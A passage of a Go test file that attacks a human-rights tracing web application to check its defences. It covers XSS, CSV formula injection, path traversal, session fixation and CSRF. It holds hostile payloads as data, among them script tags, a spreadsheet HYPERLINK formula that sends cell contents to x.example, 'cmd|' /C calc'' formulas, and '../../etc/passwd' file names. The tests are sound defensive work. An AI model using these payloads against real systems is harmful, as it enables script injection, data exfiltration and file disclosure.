package web_test

// Attacks on the web application (issue 7, "Attack it"): cross-site
// scripting through imported names, path traversal in download names,
// session fixation, cross-site request forgery on every unsafe route,
// and the rate limits on sign-in and search. The fuzz targets of every
// form and API body are in fuzz_test.go.

import (
	"bytes"
	"context"
	"crypto/sha256"
	"encoding/csv"
	"encoding/json"
	"fmt"
	"io/fs"
	"mime"
	"net/http"
	"net/url"
	"os"
	"os/exec"
	"path/filepath"
	"regexp"
	"slices"
	"strings"
	"testing"
	"time"
	"unicode"

	"github.com/chromedp/cdproto/page"
	"github.com/chromedp/chromedp"
	"github.com/paradero/paradero"
	"github.com/paradero/paradero/web"
	"golang.org/x/net/html"
)

// hostileNames are names as a hostile list could give them: markup,
// script URLs, template actions, spreadsheet formulas, a right-to-left
// override, and a very long one.
var hostileNames = []string{
	scriptName,
	imgName,
	"javascript:alert(document.domain)",
	`{{.}}{{template "layout" .}}`,
	`=HYPERLINK("http://x.example/?d="&A1,"clic")`,
	`+SUM(1+1)*cmd|' /C calc'!A0`,
	"@SUM(1+1)",
	"-2+3+cmd|' /C calc'!A0",
	"＝1+1 Pérez",
	"\u202Eanitsuga\u202C Pérez",
	`<svg onload=alert(1)>`,
	`</textarea></title><script>alert(1)</script>`,
	`' onmouseover='alert(1)' x='`,
	"Nombre muy largo " + strings.Repeat("López ", 5000),
}

const hostileColumn = `<b onmouseover=alert(1)>columna</b>`

// hostile is the fixture world with a hostile list imported through the
// import page, linked into persons and shown on every kind of page: a
// case, a violation, a tracing request, a follow and an alert name it.
type hostile struct {
	*world
	cw      *caseWorld
	source  int64   // the hostile list
	records []int64 // its records, in hostileNames order
	person  int64   // the person of the first two hostile records
	caseID  int64
	vioID   int64
	ref     string // the family's tracing request
}

func newHostile(t *testing.T) *hostile {
	t.Helper()
	w := newWorld(t)
	h := &hostile{world: w, cw: w.withCases()}
	ctx := paradero.NewContextWithActor(t.Context(), cliAdmin)

	// The list, through the import page: a hostile title, file name,
	// column and link column.
	var b bytes.Buffer
	cw := csv.NewWriter(&b)
	cw.Comma = ';'
	cw.Write([]string{"nombre", "nacionalidad", hostileColumn, "enlace"})
	for _, n := range hostileNames {
		cw.Write([]string{n, "venezolana", imgName, "javascript:alert(1)"})
	}
	cw.Flush()
	admin := w.client()
	admin.login(paradero.RoleAdmin)
	r := admin.postMultipart("/import", map[string]string{"kind": "roster", "title": "Lista " + scriptName + " {{.}}"},
		imgName+".csv", b.String())
	if r.status != http.StatusOK {
		t.Fatalf("preview of the hostile list = %d:\n%s", r.status, r.body)
	}
	checkHostilePage(t, "the import preview", r)
	action := ""
	for _, f := range findAll(parse(t, r.body), "form") {
		if a := attr(f, "action"); strings.HasPrefix(a, "/import/") {
			action = a
		}
	}
	if action == "" {
		t.Fatalf("the preview of the hostile list offers no import:\n%s", text(byID(parse(t, r.body), "main")))
	}
	r = admin.post(action, nil)
	loc, ok := strings.CutPrefix(r.header.Get("Location"), "/sources/")
	if r.status != http.StatusSeeOther || !ok {
		t.Fatalf("importing the hostile list = %d to %q", r.status, r.header.Get("Location"))
	}
	fmt.Sscan(loc, &h.source)
	recs, _, err := w.db.FindRecords(ctx, paradero.RecordFilter{SourceID: h.source, Limit: 100})
	if err != nil || len(recs) != len(hostileNames) {
		t.Fatalf("the hostile list has %d records (%v), want %d", len(recs), err, len(hostileNames))
	}
	for _, r := range recs {
		h.records = append(h.records, r.ID)
	}

	// Link again: the first two hostile records are one person; the next
	// two wait for review, with hostile words in the waterfall.
	clusters, err := w.db.FindPersonRecords(ctx)
	if err != nil {
		t.Fatal(err)
	}
	clusters = append(clusters, h.records[:2])
	for _, id := range h.records[2:] {
		clusters = append(clusters, []int64{id})
	}
	exp, _ := json.Marshal(map[string]any{"prior": -12.5, "weight": 1, "probability": 0.5, "decision": "review",
		"fields": []map[string]any{{"comparison": scriptName, "value_a": imgName, "value_b": hostileNames[2], "level": 1, "label": scriptName, "weight": 1}}})
	if err := w.db.SaveLinkRun(ctx, &paradero.LinkRun{CreatedBy: "cli:test", Settings: []byte("{}")}, clusters, []paradero.ReviewPair{
		{RecordA: w.records[3].ID, RecordB: h.cw.second[1].ID, Probability: 0.4, Weight: 9.1, Explanation: []byte("{}")},
		{RecordA: h.records[2], RecordB: h.records[3], Probability: 0.5, Weight: 1, Explanation: exp}}); err != nil {
		t.Fatal(err)
	}
	h.person = w.personOf(recsByID(recs, h.records[0]))

	// A case of the lawyer's and a violation, in hostile words.
	c := &paradero.Case{Kind: paradero.CaseHabeas, Title: scriptName, Court: imgName, Number: "{{.}}", Notes: hostileNames[4],
		Status: paradero.CaseOpen, People: []paradero.CasePerson{{RecordID: h.records[0]}},
		Lawyers: []paradero.CaseLawyer{{UserID: w.users[paradero.RoleLawyer].ID}}}
	if err := w.db.CreateCase(ctx, c); err != nil {
		t.Fatal(err)
	}
	h.caseID = c.ID
	if err := w.db.CreateDeadline(ctx, &paradero.Deadline{CaseID: c.ID, Kind: paradero.DeadlineHearing, What: scriptName,
		Due: paradero.PartialDate{Year: 2099, Month: 1, Day: 10}, Status: paradero.DeadlinePending}); err != nil {
		t.Fatal(err)
	}
	if err := w.db.CreateCourtOrder(ctx, &paradero.CourtOrder{CaseID: c.ID, Date: paradero.PartialDate{Year: 2025, Month: 3, Day: 15},
		Kind: paradero.OrderRelease, Text: imgName, Obeyed: paradero.ComplianceDisobeyed, ObeyedSource: h.source}); err != nil {
		t.Fatal(err)
	}
	v := &paradero.Violation{Type: paradero.ViolationTorture, Date: paradero.DateRange{From: paradero.PartialDate{Year: 2025, Month: 3, Day: 16}},
		Place: scriptName, Perpetrator: imgName, Notes: hostileNames[3], Victims: []paradero.Victim{{RecordID: h.records[0]}, {RecordID: h.records[1]}},
		Sources: []paradero.Citation{{SourceID: h.source}}}
	if err := w.db.CreateViolation(ctx, v); err != nil {
		t.Fatal(err)
	}
	h.vioID = v.ID

	// A family member's tracing request, verified by staff with a note.
	fam := w.client()
	fam.login(paradero.RoleFamily)
	form := tracingForm(scriptName)
	form.Set("sought_other_names", imgName)
	form.Set("details", hostileNames[3]+"\n"+hostileNames[11])
	form.Set("last_seen_place", hostileNames[2])
	form.Set("contact", hostileNames[4])
	r = fam.post("/tracing", form)
	ref, ok := strings.CutPrefix(r.header.Get("Location"), "/tracing/")
	if r.status != http.StatusSeeOther || !ok {
		t.Fatalf("filing a hostile tracing request = %d to %q", r.status, r.header.Get("Location"))
	}
	h.ref = ref
	if r := admin.post("/tracing/"+ref+"/verify", url.Values{"method": {"in-person"}, "note": {imgName}}); r.status != http.StatusSeeOther {
		t.Fatalf("verifying the request = %d", r.status)
	}

	// The administrator follows the hostile person and a hostile
	// facility, and the watch tells them something in hostile words.
	for _, target := range []string{fmt.Sprint(h.person), "facility:" + scriptName} {
		if r := admin.post("/follows", url.Values{"target": {target}}); r.status != http.StatusSeeOther {
			t.Fatalf("following %q = %d", target, r.status)
		}
	}
	if _, err := w.db.CreateNotices(ctx, []*paradero.Notice{{Kind: paradero.AlertTransfer, Change: "moved", At: time.Now(),
		Locator: imgName, WatchKey: scriptName, PersonID: h.person, From: scriptName, To: imgName, Detail: hostileNames[3]}}); err != nil {
		t.Fatal(err)
	}
	if _, err := w.db.FoldAlerts(ctx, time.Now(), 0, nil); err != nil {
		t.Fatal(err)
	}
	return h
}

func recsByID(recs []*paradero.Record, id int64) *paradero.Record {
	for _, r := range recs {
		if r.ID == id {
			return r
		}
	}
	return nil
}

// checkHostilePage fails the test if a page has anything a browser could
// run, or a link off the site (inertHTML).
func checkHostilePage(t *testing.T, what string, r *response) *html.Node {
	t.Helper()
	doc := parse(t, r.body)
	styles := 0
	if strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment") {
		styles = 1 // a self-contained dossier has its style sheet inline
	}
	if err := inertHTML(doc, styles); err != nil {
		t.Errorf("%s: %v", what, err)
	}
	return doc
}

// checkAnswer checks any answer to a GET: no server error, a redirect
// within the site, every page inert, every CSV cell neutralised, every
// download an attachment the browser will not sniff.
func checkAnswer(t *testing.T, path string, r *response) {
	t.Helper()
	if r.status >= 500 {
		t.Errorf("GET %s = %d", path, r.status)
		return
	}
	if r.header.Get("X-Content-Type-Options") != "nosniff" || !strings.Contains(r.header.Get("Content-Security-Policy"), "default-src 'none'") {
		t.Errorf("GET %s: no nosniff or no strict CSP", path)
	}
	if r.status >= 300 && r.status < 400 {
		if loc := r.header.Get("Location"); !localTarget(loc) {
			t.Errorf("GET %s redirects off the site, to %q", path, loc)
		}
		return
	}
	mt, _, _ := mime.ParseMediaType(r.header.Get("Content-Type"))
	switch mt {
	case "text/html":
		checkHostilePage(t, "GET "+path, r)
	case "text/csv":
		if r.header.Get("X-Paradero-SHA256") != "" {
			break // a source's own file, byte for byte: evidence, not an export
		}
		checkCSV(t, path, r.body)
	case "application/json":
		if !json.Valid([]byte(r.body)) {
			t.Errorf("GET %s: JSON that does not parse", path)
		}
	case "application/pdf":
		if !strings.HasPrefix(r.body, "%PDF-") {
			t.Errorf("GET %s: a PDF that is not one", path)
		}
	}
	if r.header.Get("X-Paradero-SHA256") != "" || !slices.Contains([]string{"text/html", "text/csv", "application/json", "application/pdf"}, mt) {
		if !strings.HasPrefix(r.header.Get("Content-Disposition"), "attachment") {
			t.Errorf("GET %s: %s served inline", path, mt)
		}
	}
}

// checkCSV fails the test for a cell a spreadsheet would run as a formula
// (report.SafeCell's contract).
func checkCSV(t *testing.T, path, body string) {
	t.Helper()
	rows, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Errorf("GET %s: %v", path, err)
		return
	}
	for _, row := range rows {
		for _, cell := range row {
			if cell == "" {
				continue
			}
			if strings.ContainsRune("=+-@\t\r", rune(cell[0])) && !isNumber(cell) {
				t.Errorf("GET %s: the cell %q is a formula to a spreadsheet", path, cell)
			}
			for _, p := range []string{"＝", "＋", "－", "＠"} {
				if strings.HasPrefix(cell, p) {
					t.Errorf("GET %s: the cell %q is a formula to some spreadsheets", path, cell)
				}
			}
		}
	}
}

var numberRE = regexp.MustCompile(`^-?[0-9]+(\.[0-9]+)?$`)

func isNumber(s string) bool { return numberRE.MatchString(s) }

// crawl visits every page reachable by links from start, as c, checking
// each answer; it returns the answers by path.
func crawl(t *testing.T, c *client, start ...string) map[string]*response {
	t.Helper()
	seen := make(map[string]*response)
	queue := slices.Clone(start)
	for len(queue) > 0 && len(seen) < 800 {
		p := queue[0]
		queue = queue[1:]
		if _, ok := seen[p]; ok {
			continue
		}
		r := c.get(p)
		seen[p] = r
		checkAnswer(t, p, r)
		if mt, _, _ := mime.ParseMediaType(r.header.Get("Content-Type")); mt != "text/html" || r.status >= 300 {
			continue
		}
		walk(parse(t, r.body), func(n *html.Node) {
			if n.Type != html.ElementNode || n.Data != "a" {
				return
			}
			href, _, _ := strings.Cut(attr(n, "href"), "#")
			if strings.HasPrefix(href, "?") {
				href = strings.SplitN(p, "?", 2)[0] + href
			}
			if href == "" || !localTarget(href) || strings.HasPrefix(href, "/static/") {
				return
			}
			if _, ok := seen[href]; !ok {
				queue = append(queue, href)
			}
		})
	}
	if len(queue) > 0 {
		t.Errorf("the crawl stopped at %d pages with %d to go", len(seen), len(queue))
	}
	return seen
}

// TestHostileNamesAreText imports a hostile list, links it and puts its
// names on every kind of page, then crawls the application as each role:
// no page has anything a browser could run, every CSV cell is
// neutralised, and the names are shown, as text, where they belong.
func TestHostileNamesAreText(t *testing.T) {
	h := newHostile(t)
	w := h.world
	starts := []string{"/", "/stats", "/sources", "/review", "/reconciliation", "/audit", "/cases", "/violations", "/tracing",
		"/alerts", "/follows", "/import", "/search", "/account/two-factor",
		fmt.Sprintf("/reconciliation?on=%d&absent=%d", h.source, w.source.ID),
		fmt.Sprintf("/reconciliation/unaccounted.csv?on=%d&absent=%d", h.source, w.source.ID),
		fmt.Sprintf("/persons/%d/dossier?format=pdf", h.person), "/tracing/" + h.ref + "/candidates"}
	for _, role := range []paradero.Role{paradero.RoleAdmin, paradero.RoleDocumenter, paradero.RoleLawyer, paradero.RoleFamily, paradero.RolePublic} {
		c := w.client()
		c.login(role)
		seen := crawl(t, c, starts...)
		t.Logf("%s: %d answers checked", role, len(seen))
		if role != paradero.RoleAdmin {
			continue
		}
		// The crawl reached the hostile objects, and they show the names.
		for _, want := range []struct {
			path  string
			texts []string
		}{
			{fmt.Sprintf("/sources/%d", h.source), []string{"Lista " + scriptName + " {{.}}", imgName + ".csv", scriptName, imgName, hostileNames[3]}},
			{fmt.Sprintf("/records/%d", h.records[0]), []string{scriptName, hostileColumn, imgName, "javascript:alert(1)"}},
			{fmt.Sprintf("/records/%d", h.records[3]), []string{hostileNames[3]}},
			{fmt.Sprintf("/records/%d", h.records[9]), []string{hostileNames[9]}},
			{fmt.Sprintf("/records/%d", h.records[13]), []string{"Nombre muy largo López López"}},
			{fmt.Sprintf("/persons/%d", h.person), []string{scriptName, imgName}},
			{fmt.Sprintf("/persons/%d/dossier?format=html", h.person), []string{scriptName, imgName}},
			{fmt.Sprintf("/review/%d/%d", h.records[2], h.records[3]), []string{hostileNames[2], hostileNames[3]}},
			{fmt.Sprintf("/cases/%d", h.caseID), []string{scriptName, imgName, "{{.}}"}},
			{fmt.Sprintf("/violations/%d", h.vioID), []string{scriptName, imgName}},
			{"/tracing/" + h.ref, []string{scriptName, imgName, hostileNames[2]}},
			{"/alerts", []string{scriptName, imgName}},
			{"/follows", []string{scriptName}},
		} {
			r, ok := seen[want.path]
			if !ok {
				t.Errorf("the crawl never reached %s", want.path)
				continue
			}
			doc := parse(t, r.body)
			got := text(doc)
			for _, s := range want.texts {
				if !strings.Contains(got, strings.Join(strings.Fields(s), " ")) {
					t.Errorf("%s does not show %q as text", want.path, s)
				}
			}
		}
		csvs := 0
		for p := range seen {
			if strings.Contains(p, ".csv") {
				csvs++
			}
		}
		if r := seen["/reconciliation/persons.csv"]; r == nil || !strings.Contains(r.body, `'=HYPERLINK(`) {
			t.Errorf("persons.csv does not neutralise the hostile formula (%d CSV files seen)", csvs)
		}
	}

	// Search results and the import preview of a list with errors, which
	// the crawl does not reach.
	c := w.client()
	c.login(paradero.RoleDocumenter)
	for _, q := range []string{"script", "img", "HYPERLINK", "anitsuga", "López"} {
		r := c.post("/search", url.Values{"name": {q}})
		if r.status != http.StatusOK {
			t.Errorf("search %q = %d", q, r.status)
		}
		checkHostilePage(t, "search "+q, r)
	}
	if got := text(byID(parse(t, c.post("/search", url.Values{"name": {"script"}}).body), "main")); !strings.Contains(got, scriptName) {
		t.Errorf("the search for 'script' does not show %q", scriptName)
	}
	bad := "nombre;nacimiento;" + hostileColumn + "\n" + scriptName + ";31/02/" + imgName + ";x\n" + imgName + "\x00;1990;y\n\xff\xfe" + scriptName + ";;\n"
	r := c.postMultipart("/import", map[string]string{"kind": "roster", "title": imgName}, "../../"+scriptName+".csv", bad)
	if r.status >= 500 {
		t.Fatalf("preview of a broken hostile list = %d", r.status)
	}
	checkHostilePage(t, "the preview of a broken hostile list", r)

	// The API's CSV and JSON carry the names as data.
	api := w.api(paradero.RoleAdmin)
	if r := api.get("/api/v1/reconciliation/persons.csv"); r.status != http.StatusOK {
		t.Errorf("API persons.csv = %d", r.status)
	} else {
		checkCSV(t, "/api/v1/reconciliation/persons.csv", string(r.body))
	}
	if r := api.get(fmt.Sprintf("/api/v1/records/%d", h.records[0])); r.status != http.StatusOK ||
		r.header.Get("Content-Type") != "application/json" || !bytes.Contains(r.body, []byte(`\u003cscript\u003e`)) {
		t.Errorf("API record = %d %s %s", r.status, r.header.Get("Content-Type"), r.body)
	}
}

// TestHostileNamesInBrowser opens the hostile person's page, record page
// and dossier — saved to disk and opened as a file, where no
// Content-Security-Policy protects it — in chromium, and checks that no
// dialog opens and no element of the names' markup exists. A page that
// does run script proves the harness sees a dialog.
func TestHostileNamesInBrowser(t *testing.T) {
	chromium, err := exec.LookPath("chromium")
	if err != nil {
		t.Fatal("chromium is not installed (apt-get install chromium; .ci/run does it): ", err)
	}
	h := newHostile(t)
	w := h.world
	c := w.client()
	c.login(paradero.RoleAdmin)
	dir := t.TempDir()
	dossier := filepath.Join(dir, "dossier.html")
	if err := os.WriteFile(dossier, []byte(c.get(fmt.Sprintf("/persons/%d/dossier", h.person)).body), 0o600); err != nil {
		t.Fatal(err)
	}
	control := filepath.Join(dir, "control.html")
	if err := os.WriteFile(control, []byte(`<!doctype html><title>x</title><script>alert("control")</script>`), 0o600); err != nil {
		t.Fatal(err)
	}

	actx, cancelAlloc := chromedp.NewExecAllocator(t.Context(), chromedp.ExecPath(chromium), chromedp.Headless, chromedp.NoSandbox,
		chromedp.DisableGPU, chromedp.NoFirstRun, chromedp.Flag("disable-background-networking", true),
		chromedp.Flag("disable-component-update", true), chromedp.Flag("disable-sync", true), chromedp.UserDataDir(t.TempDir()))
	defer cancelAlloc()
	ctx, cancel := chromedp.NewContext(actx)
	defer cancel()
	if err := chromedp.Do(ctx, chromedp.Navigate("about:blank")); err != nil {
		t.Fatalf("starting chromium: %v", err)
	}
	dialogs := make(chan string, 16)
	go func() {
		for ev, err := range chromedp.Events(ctx, page.JavascriptDialogOpening) {
			if err != nil {
				return
			}
			dialogs <- ev.Message
			chromedp.Call(ctx, page.HandleJavaScriptDialog, page.HandleJavaScriptDialogParams{Accept: true})
		}
	}()
	step := func(what string, steps ...chromedp.Action[chromedp.Void]) {
		t.Helper()
		sctx, cancel := context.WithTimeout(ctx, 30*time.Second)
		defer cancel()
		if err := chromedp.Do(sctx, steps...); err != nil {
			t.Fatalf("%s: %v", what, err)
		}
	}
	// How a page looks once loaded: what the names could have made.
	const probe = `(() => {
		const bad = [...document.querySelectorAll("script, img, iframe, object, embed")].length;
		const on = [...document.querySelectorAll("*")].filter(e => [...e.attributes].some(a => a.name.startsWith("on"))).length;
		const js = [...document.querySelectorAll("[href], [src], [action]")].filter(e =>
			/^\s*javascript:/i.test(e.getAttribute("href") || e.getAttribute("src") || e.getAttribute("action"))).length;
		return bad + on + js;
	})()`
	settle := func(what string) {
		t.Helper()
		n, err := chromedp.Run(ctx, chromedp.Evaluate[int](probe))
		if err != nil {
			t.Fatalf("%s: %v", what, err)
		}
		if n != 0 {
			t.Errorf("%s: %d elements made by the names (scripts, images, handlers, script links)", what, n)
		}
		select {
		case m := <-dialogs:
			t.Errorf("%s opened a dialog: %q", what, m)
		default:
		}
	}

	step("control", chromedp.Navigate("file://"+control))
	select {
	case <-dialogs:
	case <-time.After(10 * time.Second):
		t.Fatal("a page with a script opened no dialog that the test saw: the test would see none")
	}

	step("sign in", chromedp.Navigate(w.srv.URL+"/login"), chromedp.WaitVisible(chromedp.ID("email")),
		chromedp.SendKeys(chromedp.ID("email"), "admin@example.org"),
		chromedp.SendKeys(chromedp.ID("password"), testPassword+"\r"),
		chromedp.WaitVisible(chromedp.CSS("form.logout")))
	for _, p := range []string{fmt.Sprintf("/persons/%d", h.person), fmt.Sprintf("/records/%d", h.records[1]),
		fmt.Sprintf("/sources/%d", h.source), fmt.Sprintf("/review/%d/%d", h.records[2], h.records[3]), "/tracing/" + h.ref, "/alerts"} {
		step(p, chromedp.Navigate(w.srv.URL+p), chromedp.WaitVisible(chromedp.ID("main")))
		settle(p)
	}
	step("the dossier file", chromedp.Navigate("file://"+dossier), chromedp.WaitReady(chromedp.CSS("body")))
	settle("the dossier file")
	got, err := chromedp.Run(ctx, chromedp.Evaluate[bool](fmt.Sprintf(`document.body.innerText.includes(%q)`, scriptName)))
	if err != nil || !got {
		t.Errorf("the dossier file does not show %q as text (%v)", scriptName, err)
	}
}

// TestDownloadNames gives sources hostile file names — directories,
// Windows paths, quotes and line breaks, a right-to-left override — and
// checks what a browser is told to save them as, from the pages and the
// API; and that the import page and the API keep only a base name.
func TestDownloadNames(t *testing.T) {
	w := newWorld(t)
	w.linked()
	person := w.personOf(w.records[0])
	ctx := paradero.NewContextWithActor(t.Context(), cliAdmin)
	names := []string{"../../etc/passwd", `..\..\Windows\win.ini`, `C:\evil.csv`, "a\"b\r\nSet-Cookie: x=1.csv",
		"\u202Evsc.exe", "..", ".", "", "lista\x1b[31m.csv", "/abs/path.csv", "ñandú lista.csv"}
	ids := make([]int64, len(names))
	for i, n := range names {
		im, err := w.db.BeginImport(ctx, &paradero.Source{Kind: paradero.KindRoster, Title: "t", Filename: n, MediaType: "text/csv"},
			strings.NewReader(fmt.Sprint("file ", i)))
		if err != nil {
			t.Fatal(err)
		}
		if err := im.AddRecord(ctx, &paradero.Record{Row: 2, FullName: "Ana"}); err != nil {
			t.Fatal(err)
		}
		src, err := im.Commit(ctx)
		if err != nil {
			t.Fatal(err)
		}
		ids[i] = src.ID
	}
	c := w.client()
	c.login(paradero.RoleDocumenter)
	api := w.api(paradero.RoleDocumenter)
	for i, n := range names {
		for _, r := range []*response{c.get(fmt.Sprintf("/sources/%d/file", ids[i])), apiResponse(api.get(fmt.Sprintf("/api/v1/sources/%d/file", ids[i])))} {
			if r.status != http.StatusOK {
				t.Errorf("download of %q = %d", n, r.status)
				continue
			}
			if r.header.Get("Set-Cookie") != "" {
				t.Errorf("download of %q sets a cookie: %q", n, r.header.Get("Set-Cookie"))
			}
			checkDownloadName(t, n, r.header.Get("Content-Disposition"))
		}
	}
	// Every other download: names the server makes.
	for _, p := range []string{fmt.Sprintf("/persons/%d/dossier", person), fmt.Sprintf("/persons/%d/dossier?format=pdf", person),
		fmt.Sprintf("/sources/%d/proof", w.source.ID), fmt.Sprintf("/records/%d/proof", w.records[0].ID),
		"/reconciliation/persons.csv", "/reconciliation/intersections.csv"} {
		r := c.get(p)
		if r.status != http.StatusOK {
			t.Errorf("GET %s = %d", p, r.status)
			continue
		}
		checkDownloadName(t, p, r.header.Get("Content-Disposition"))
	}
	// The reconciliation's file name is one of three, however it is spelt.
	for _, p := range []string{"/reconciliation/..%2f..%2fetc%2fpasswd", "/reconciliation/%2e%2e", "/reconciliation/persons.csv%00",
		"/reconciliation/persons.csv%2f..", "/reconciliation/..%5cpersons.csv", "/reconciliation/PERSONS.CSV"} {
		if r := c.get(p); r.status != http.StatusNotFound {
			t.Errorf("GET %s = %d, want 404", p, r.status)
		}
	}
	// Uploads keep the base name of what the client calls its file.
	for i, n := range []string{"../../etc/lista.csv", `..\..\Windows\lista.csv`, `C:\Users\x\lista.csv`} {
		content := fmt.Sprintf("nombre\nAna %d\n", i)
		var r *response
		if i%2 == 0 {
			r = c.postMultipart("/import", map[string]string{"kind": "roster"}, n, content)
			for _, f := range findAll(parse(t, r.body), "form") {
				if a := attr(f, "action"); strings.HasPrefix(a, "/import/") {
					r = c.post(a, nil)
				}
			}
		} else {
			r = apiResponse(api.upload("", map[string]string{"kind": "roster"}, n, content))
		}
		if r.status != http.StatusSeeOther && r.status != http.StatusCreated {
			t.Fatalf("importing %q = %d", n, r.status)
		}
		srcs, _, err := w.db.FindSources(ctx, paradero.SourceFilter{Limit: 1})
		if err != nil {
			t.Fatal(err)
		}
		if got := srcs[0].Filename; got != "lista.csv" {
			t.Errorf("importing %q stored the file name %q, want lista.csv", n, got)
		}
	}
	// The blob store names files by their hash alone.
	filepath.WalkDir(w.db.Dir(), func(p string, d fs.DirEntry, err error) error {
		if err == nil && !d.IsDir() && strings.Contains(p, filepath.Join(w.db.Dir(), "blobs")) && !regexp.MustCompile(`/blobs/[0-9a-f]{2}/[0-9a-f]{62,64}$`).MatchString(filepath.ToSlash(p)) {
			t.Errorf("the blob store holds %s", p)
		}
		return nil
	})
}

// checkDownloadName fails the test unless cd is an attachment whose file
// name a browser can save as it is: one plain name, no directory, no
// control or direction-changing character.
func checkDownloadName(t *testing.T, what, cd string) {
	t.Helper()
	disp, params, err := mime.ParseMediaType(cd)
	if err != nil || disp != "attachment" {
		t.Errorf("%q: Content-Disposition %q (%v), want an attachment", what, cd, err)
		return
	}
	name := params["filename"]
	bad := name == "" || name == "." || name == ".." || strings.ContainsAny(name, `/\`) ||
		strings.ContainsFunc(name, func(r rune) bool { return unicode.IsControl(r) || unicode.Is(unicode.Cf, r) })
	if bad {
		t.Errorf("%q is offered as %q (Content-Disposition %q)", what, name, cd)
	}
}

func apiResponse(r *apiResp) *response {
	return &response{status: r.status, header: r.header, body: string(r.body)}
}

// TestSessionFixation: a session token planted in a browser before sign-in
// — one the server never made, or the attacker's own — is not the one the
// victim has after, and never becomes theirs; under TLS only the
// __Host- cookie counts, so a cookie a neighbouring site sets is ignored.
func TestSessionFixation(t *testing.T) {
	w := newWorld(t)
	u := mustURL(w.srv.URL)

	// A token the server never made.
	victim := w.client()
	planted := strings.Repeat("A", 43)
	victim.jar.SetCookies(u, []*http.Cookie{{Name: "paradero_session", Value: planted, Path: "/"}})
	victim.get("/login")
	victim.login(paradero.RoleAdmin)
	if got := victim.cookie("paradero_session"); got == "" || got == planted {
		t.Errorf("after sign-in the session cookie is %q; the planted one was %q", got, planted)
	}
	probe := w.client()
	probe.jar.SetCookies(u, []*http.Cookie{{Name: "paradero_session", Value: planted, Path: "/"}})
	if r := probe.get("/audit"); r.status != http.StatusSeeOther {
		t.Errorf("the planted token reaches /audit: %d", r.status)
	}

	// The attacker's own session, planted in the victim's browser.
	attacker := w.client()
	attacker.login(paradero.RolePublic)
	theirs := attacker.cookie("paradero_session")
	victim = w.client()
	victim.jar.SetCookies(u, []*http.Cookie{{Name: "paradero_session", Value: theirs, Path: "/"}})
	victim.login(paradero.RoleAdmin)
	if got := victim.cookie("paradero_session"); got == theirs {
		t.Fatal("signing in kept the attacker's planted session token")
	}
	if r := attacker.get("/audit"); r.status == http.StatusOK {
		t.Errorf("the attacker's token reads the administrator's audit log")
	}
	if r := victim.get("/audit"); r.status != http.StatusOK {
		t.Errorf("the victim, signed in, reads /audit: %d", r.status)
	}

	// Under TLS the session is the __Host- cookie only.
	srv := w.otherServer(web.Config{Secure: true, Password: cheapParams})
	tok := randomToken43()
	now := time.Now()
	if err := w.db.CreateSession(paradero.NewContextWithActor(t.Context(), cliAdmin), &paradero.Session{
		TokenHash: sha256.Sum256([]byte(tok)), UserID: w.users[paradero.RoleAdmin].ID, CSRFToken: randomToken43(),
		CreatedAt: now, ExpiresAt: now.Add(time.Hour), LastSeenAt: now}); err != nil {
		t.Fatal(err)
	}
	for name, want := range map[string]int{"paradero_session": http.StatusSeeOther, "__Host-paradero_session": http.StatusOK} {
		req, _ := http.NewRequestWithContext(t.Context(), "GET", srv.URL+"/audit", nil)
		req.AddCookie(&http.Cookie{Name: name, Value: tok})
		resp, err := (&http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}).Do(req)
		if err != nil {
			t.Fatal(err)
		}
		resp.Body.Close()
		if resp.StatusCode != want {
			t.Errorf("under TLS, a valid token in cookie %s: /audit = %d, want %d", name, resp.StatusCode, want)
		}
	}
}

// worldFill makes a path of a route pattern from the fixture world (with
// cases): the lawyer's case, José's person, a tracing reference…
func worldFill(w *world, cw *caseWorld, ref string) func(string) string {
	id := func(n int64) string { return fmt.Sprint(n) }
	params := map[string]string{
		"persons/{id}": id(cw.jose), "cases/{id}": id(cw.mine.ID), "violations/{id}": id(cw.onHer.ID), "follows/{id}": "1",
		"{record}": id(w.records[3].ID), "{user}": id(w.users[paradero.RoleLawyer].ID), "{did}": "1", "{oid}": "1",
		"{source}": id(w.source.ID), "{ref}": ref, "{a}": id(w.records[3].ID), "{b}": id(cw.second[1].ID), "{token}": "x",
		"tokens/{id}": "1", "users/{id}": id(w.users[paradero.RoleLawyer].ID), "{file}": "persons.csv",
	}
	return func(pattern string) string {
		segs := strings.Split(pattern, "/")
		for i, s := range segs {
			if strings.HasPrefix(s, "{") {
				v, ok := params[segs[i-1]+"/"+s]
				if !ok {
					v = params[s]
				}
				segs[i] = v
			}
		}
		return strings.Join(segs, "/")
	}
}

// TestCSRFEveryRoute sends every unsafe route of the pages, as each role
// that may use it, without the token, with a wrong one, with another
// session's, with the browser's token from before sign-in, and with the
// right token from another site: each is refused with 403 and nothing is
// written. The API reads no cookie: a signed-in browser is not a caller.
func TestCSRFEveryRoute(t *testing.T) {
	w := newWorld(t)
	cw := w.withCases()
	fam := w.client()
	fam.login(paradero.RoleFamily)
	ref, _ := fam.file("José Pérez Gómez")
	fill := worldFill(w, cw, ref)
	ro := openReadOnly(t, w.db)
	before := readState(t, ro)

	other := w.client()
	other.login(paradero.RoleDocumenter)
	otherToken := other.csrfFrom("/")
	for _, role := range []paradero.Role{"", paradero.RoleAdmin, paradero.RoleLawyer, paradero.RoleFamily} {
		c := w.client()
		preLogin := c.csrfFrom("/login")
		if role != "" {
			c.login(role)
		}
		good := c.csrfFrom("/stats")
		for _, pattern := range postRoutes(t) {
			p := fill(pattern)
			for _, tc := range []struct {
				name   string
				token  string
				header []string
			}{
				{"no token", "", nil},
				{"a wrong token", randomToken43(), nil},
				{"another session's token", otherToken, nil},
				{"the token from before sign-in", preLogin, nil},
				{"the right token, cross-site", good, []string{"Sec-Fetch-Site", "cross-site"}},
				{"the right token, from a sibling site", good, []string{"Sec-Fetch-Site", "same-site"}},
				{"the right token, from another origin", good, []string{"Origin", "https://evil.example"}},
			} {
				if role == "" && tc.name == "the token from before sign-in" {
					continue // that is the right token for nobody
				}
				form := url.Values{"reason": {"x"}, "verdict": {"same"}, "kind": {"habeas"}, "email": {"admin@example.org"}, "password": {testPassword}}
				if tc.token != "" {
					form.Set("csrf", tc.token)
				}
				r := c.do("POST", p, form, tc.header...)
				if r.status != http.StatusForbidden {
					t.Errorf("%q POST %s with %s = %d, want 403", role, p, tc.name, r.status)
				}
			}
			// GET never changes anything, whatever it carries.
			c.get(p + "?csrf=" + good + "&verdict=same&reason=x")
		}
		if role != "" {
